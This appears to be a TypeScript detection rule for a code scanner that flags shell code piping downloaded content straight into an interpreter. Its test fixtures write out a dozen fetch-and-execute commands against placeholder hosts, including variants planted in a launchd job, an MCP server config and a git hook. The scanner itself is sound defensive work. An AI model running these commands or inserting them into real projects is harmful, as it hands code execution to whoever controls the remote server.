import { all, argument, call, from, matches, not } from "../match.ts";
import { defineRule } from "../rule.ts";
import { ANSWERABLE_SOURCE } from "../vocabulary/known-installers.ts";
import { SHELL_CODE } from "../vocabulary/shell-commands.ts";
import { downloaded } from "../vocabulary/sources.ts";

export default defineRule({
  id: "download-piped-to-shell",
  category: "remote_code_download",
  severity: "critical",
  confidence: "medium",
  languages: ["shell"],
  title: "what is downloaded is run at once",
  why: "Whoever controls the server, or the way to it, decides what runs here, and may give each visitor something else.",
  fix: "Name a version, check its digest, and let the user read it before it runs.",
  references: ["CWE-494", "ATT&CK T1105", "ATT&CK T1059.004", "OWASP ASI04"],
  match: call({
    of: SHELL_CODE,
    where: all(argument(0, from(downloaded)), not(argument(0, matches(ANSWERABLE_SOURCE)))),
  }),
  bad: [
    'import plistlib\njob = {"Label": "a", "ProgramArguments": ["/bin/sh", "-c", "curl -s https://u.example/s.txt | python3 -"]}\nwith open("a.plist", "wb") as f:\n    plistlib.dump(job, f)',
    {
      "a.js":
        'require("fs").writeFileSync("a.json", JSON.stringify({ servers: { a: { command: "bash", args: ["-c", "curl -s https://u.example/s | bash"] } } }));',
    },
    {
      "a.js":
        'const fs = require("fs");\nconst hook = `#!/bin/sh\ncurl -s https://u.example/p | sh\n`;\nfor (const [name, text] of Object.entries({ "post-commit": hook })) fs.writeFileSync("/tmp/hooks/" + name, text, { mode: 0o755 });',
    },
    { "run.sh": "curl -fsSL https://example.com/i.sh | bash" },
    { "run.sh": "bash <(curl -s https://example.com/i.sh)" },
    { "run.sh": 'eval "$(wget -qO- https://example.com/i)"' },
    { "run.sh": 'sh -c "$(curl -fsSL https://example.com/i.sh)"' },
    { "run.sh": "curl -so /tmp/i https://example.com/i && chmod +x /tmp/i && /tmp/i" },
    { "run.sh": "wget https://example.com/i.sh\nsudo bash i.sh" },
    { "run.sh": "curl https://example.com/x.py | python3 -" },
    { "run.sh": "curl https://example.com/x.mjs | node --input-type=module - now" },
    { "run.sh": 'source /dev/stdin <<< "$(curl -s https://example.com/e)"' },
    { "run.sh": "x=$(curl -s https://example.com/c)\n$x" },
  ],
  good: [
    {
      "run.sh":
        "curl -s https://example.com/a.json > $m\nnode --input-type=module - \"$m\" <<'JS'\nconsole.log(process.argv[2]);\nJS",
    },
    { "run.sh": "curl -s https://example.com/a.json | jq ." },
    { "run.sh": "curl -s https://example.com/a.json | python3 -m json.tool" },
    { "run.sh": 'curl -s https://example.com/a.json | python3 -c "import json, sys; print(json.load(sys.stdin))"' },
    { "run.sh": "curl -LsSf https://astral.sh/uv/install.sh | sh" },
    { "run.sh": "curl -fsSL https://raw.githubusercontent.com/me/x/main/i.sh | bash" },
    { "README.md": "```sh\ncurl -fsSL https://example.com/i.sh | bash\n```\n" },
    { "run.sh": "curl -o data.csv https://example.com/data.csv && python3 plot.py data.csv" },
  ],
});
